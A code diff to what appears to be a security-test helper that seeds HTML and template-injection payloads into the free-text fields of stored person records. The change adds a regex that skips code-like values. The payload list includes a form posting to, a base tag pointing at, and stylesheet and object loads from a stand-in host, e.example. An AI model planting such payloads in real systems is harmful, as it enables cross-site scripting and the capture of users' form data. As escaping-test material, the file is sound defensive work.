@@ -1,6 +1,7 @@
 """Hostile texts, and how they are put into every free text of a person's story."""
 
 import itertools
+import re
 from collections.abc import Iterator, Mapping, Sequence
 from typing import Any
 
@@ -34,6 +35,8 @@ BODIES = (
     f"<form class={TAG} action=//e.example><input>", f"<base class={TAG} href=//e.example/>", f"{{{{ {TAG}|safe }}}}<{TAG}>", f"<style class={TAG}>@import '//e.example'</style>",
     f"<object class={TAG} data=//e.example>",
 )  # fmt: skip
+CODE = re.compile(r"[a-z0-9_]+")
+"""What stands in a sealed column for one of a few choices, which nobody types."""
 PAYLOADS = [opening + body for opening, body in itertools.product(OPENINGS, BODIES)]
 
 
@@ -51,7 +54,7 @@ def poison(ids: Mapping[str, Sequence[Any]], turn: Iterator[str], *, at_once: in
         )
         for row in rows:
             for one in texts:
-                if getattr(row, one.attname):
+                if (value := getattr(row, one.attname)) and not CODE.fullmatch(value):
                     held = [next(turn) for _ in range(1 if one.max_length else at_once)]
                     setattr(row, one.attname, " ".join(held)[: one.max_length])
                     stored += len(held)
